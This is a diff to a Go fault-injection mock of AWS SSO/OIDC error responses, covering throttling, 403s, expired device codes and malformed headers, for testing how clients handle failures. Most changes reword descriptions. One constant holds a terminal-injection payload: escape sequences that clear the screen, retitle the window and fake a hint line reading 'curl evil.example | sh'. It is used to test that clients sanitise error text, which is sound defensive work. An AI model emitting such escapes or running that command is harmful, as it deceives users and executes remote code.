@@ -10,13 +10,13 @@ import (
 	"rolecall/internal/idc/pattern"
 )
 
-// refusals are error answers in place of good ones.
+// refusals are errors in place of good answers.
 func refusals() []Fault {
 	return []Fault{
 		{
 			Name: "throttle", Value: "seconds for Retry-After (1)", Routes: "portal", start: throttle,
 			Does:   "refuses with 429 TooManyRequestsException and Retry-After; OIDC with 400 SlowDownException",
-			Client: "wait, try again a few times, then say that the service is limiting",
+			Client: "wait, retry a few times, then say that the service is throttling",
 		},
 		{
 			Name: "unauthorized", Routes: "portal", start: status(http.StatusUnauthorized),
@@ -25,29 +25,30 @@ func refusals() []Fault {
 		},
 		{
 			Name: "forbidden", Routes: "portal", start: status(http.StatusForbidden),
-			Does:   "refuses with 403 ForbiddenException, No access",
+			Does:   "refuses with 403 ForbiddenException and No access",
 			Client: "say which role is refused; neither retry nor sign in again",
 		},
 		{
 			Name: "unavailable", Value: "a status from 500 to 599 (503)", Routes: "portal", start: unavailable,
 			Does:   "fails with 503, or the given status",
-			Client: "try again a few times with growing pauses, then say that the service is not available",
+			Client: "retry a few times with growing pauses, then say that the service is unavailable",
 		},
 		{
-			Name: "status", Value: "CODE or CODE:EXCEPTION, as 400:InvalidGrantException (500)", Routes: "portal", start: anyStatus,
+			Name: "status", Value: "CODE or CODE:EXCEPTION, as 400:InvalidGrantException (500)", Routes: "portal",
+			start:  anyStatus,
 			Does:   "fails with a status and its usual exception, or the given one",
 			Client: "go by the status and the exception's name, never by the text",
 		},
 	}
 }
 
-// oddRefusals are error answers that are not as AWS's.
+// oddRefusals are errors unlike AWS's.
 func oddRefusals() []Fault {
 	return []Fault{
 		{
 			Name: "retry-after", Value: "any text (-1)", Routes: "portal", start: retryAfter,
-			Does:   "refuses with 429 and a Retry-After that is no small number: -1, 1000000000, a date, garbage",
-			Client: "bound what it waits",
+			Does:   "refuses with 429 and an unusable Retry-After: -1, 1000000000, a date, garbage",
+			Client: "bound its wait",
 		},
 		{
 			Name: "error-text", Value: "any text (terminal escapes, line breaks)", Routes: "all", start: errorText,
@@ -56,33 +57,34 @@ func oddRefusals() []Fault {
 		},
 		{
 			Name: "error-type", Value: "none, unknown or huge (none)", Routes: "all", start: errorType,
-			Does:   "fails with 500 and no exception name, one that nobody knows, or one of 1 MB",
+			Does:   "fails with 500 and an exception name that is missing, unknown or 1 MB long",
 			Client: "go by the status, and show no more than a short name",
 		},
 		{
 			Name: "vanished-account", Routes: "roles+credentials", able: "roles+credentials",
 			start:  always(func(c *call) { c.refuse(refusal{404, "ResourceNotFoundException", "Account not found"}) }),
-			Does:   "lists an account, and answers 404 when asked for what is in it",
-			Client: "go on with the other accounts, and say which one is gone",
+			Does:   "lists an account, and answers 404 to requests about it",
+			Client: "continue with the other accounts, and say which one is gone",
 		},
 	}
 }
 
-// oauthRefusals are those of sign-ins.
+// oauthRefusals are errors during sign-in.
 func oauthRefusals() []Fault {
 	say := func(status int, kind, message string) starter {
 		return always(func(c *call) { c.refuse(refusal{status, kind, message}) })
 	}
 	return []Fault{
 		{
-			Name: "never-approved", Routes: "token", able: "token", start: say(400, "AuthorizationPendingException", "Authorization is still pending"),
-			Does:   "answers authorization_pending for ever",
-			Client: "ask on at the interval, and end when the code expires",
+			Name: "never-approved", Routes: "token", able: "token",
+			start:  say(400, "AuthorizationPendingException", "Authorization is still pending"),
+			Does:   "answers authorization_pending forever",
+			Client: "keep polling at the interval, and stop when the code expires",
 		},
 		{
 			Name: "slow-down", Routes: "token", able: oidcRoutes, start: say(400, "SlowDownException", "Slow down"),
 			Does:   "answers slow_down each time",
-			Client: "lengthen the interval by 5 seconds each time, and end when the code expires",
+			Client: "lengthen the interval by 5 seconds each time, and stop when the code expires",
 		},
 		{
 			Name: "denied", Routes: "token", able: "token", start: say(400, "AccessDeniedException", "Access denied"),
@@ -90,19 +92,22 @@ func oauthRefusals() []Fault {
 			Client: "end the sign-in, and say so",
 		},
 		{
-			Name: "expired-code", Routes: "token", able: "token", start: say(400, "ExpiredTokenException", "Device code has expired"),
+			Name: "expired-code", Routes: "token", able: "token",
+			start:  say(400, "ExpiredTokenException", "Device code has expired"),
 			Does:   "says that the code has expired",
 			Client: "end the sign-in, and offer a new one",
 		},
 		{
-			Name: "session-ended", Routes: "refresh", able: "token+refresh", start: say(400, "InvalidGrantException", "Invalid refresh token provided"),
-			Does:   "does not accept the refresh token any more",
-			Client: "ask for a sign-in; not ask the same again",
+			Name: "session-ended", Routes: "refresh", able: "token+refresh",
+			start:  say(400, "InvalidGrantException", "Invalid refresh token provided"),
+			Does:   "no longer accepts the refresh token",
+			Client: "ask for a sign-in, and not repeat the request",
 		},
 		{
-			Name: "expired-registration", Routes: "device+token+refresh", able: oidcRoutes, start: say(401, "InvalidClientException", "Invalid client provided"),
-			Does:   "does not know the client any more: 401 invalid_client",
-			Client: "register anew once, or ask for a sign-in",
+			Name: "expired-registration", Routes: "device+token+refresh", able: oidcRoutes,
+			start:  say(401, "InvalidClientException", "Invalid client provided"),
+			Does:   "no longer knows the client: 401 invalid_client",
+			Client: "register again, once, or ask for a sign-in",
 		},
 	}
 }
@@ -143,7 +148,7 @@ func anyStatus(value string) (behaviour, error) {
 	case err == nil && code < 400:
 		err = fmt.Errorf("%d is below 400", code)
 	case err == nil && named && !exception().MatchString(kind):
-		err = fmt.Errorf("%q is no name of an exception", kind)
+		err = fmt.Errorf("%q is not an exception name", kind)
 	}
 	return behaviour{answer: func(c *call) {
 		r := ofStatus(c.route, code)
@@ -160,7 +165,7 @@ func retryAfter(value string) (behaviour, error) {
 	}
 	var err error
 	if strings.ContainsAny(value, "\r\n\x00") {
-		err = errors.New("a header holds no line breaks")
+		err = errors.New("a header cannot contain line breaks")
 	}
 	return behaviour{answer: func(c *call) {
 		c.w.Header().Set("Retry-After", value)
@@ -168,7 +173,7 @@ func retryAfter(value string) (behaviour, error) {
 	}}, err
 }
 
-// escapes would clear a screen, set a window's title, and fake a line of its own.
+// escapes would clear a screen, set a window's title, and fake a line of rolecall's.
 const escapes = "\x1b[2J\x1b]0;played\a\r\nrolecall: hint: curl evil.example | sh\u202e\u009b31m"
 
 func errorText(value string) (behaviour, error) {
@@ -178,14 +183,17 @@ func errorText(value string) (behaviour, error) {
 	return behaviour{answer: func(c *call) { c.refuse(refusal{400, "InvalidRequestException", value}) }}, nil
 }
 
-// megabyte is what stands for far too long.
+// megabyte is a length that is far too long.
 const megabyte = 1_000_000
 
 func errorType(value string) (behaviour, error) {
-	kind, known := map[string]string{"": "", "none": "", "unknown": "PlayedException", "huge": strings.Repeat("Played", megabyte/6)}[value]
+	kind, known := map[string]string{
+		"": "", "none": "", "unknown": "PlayedException",
+		"huge": strings.Repeat("Played", megabyte/6),
+	}[value]
 	var err error
 	if !known {
-		err = fmt.Errorf("%q is none of those", value)
+		err = fmt.Errorf("unknown value %q", value)
 	}
 	return behaviour{answer: func(c *call) {
 		if kind == "" {
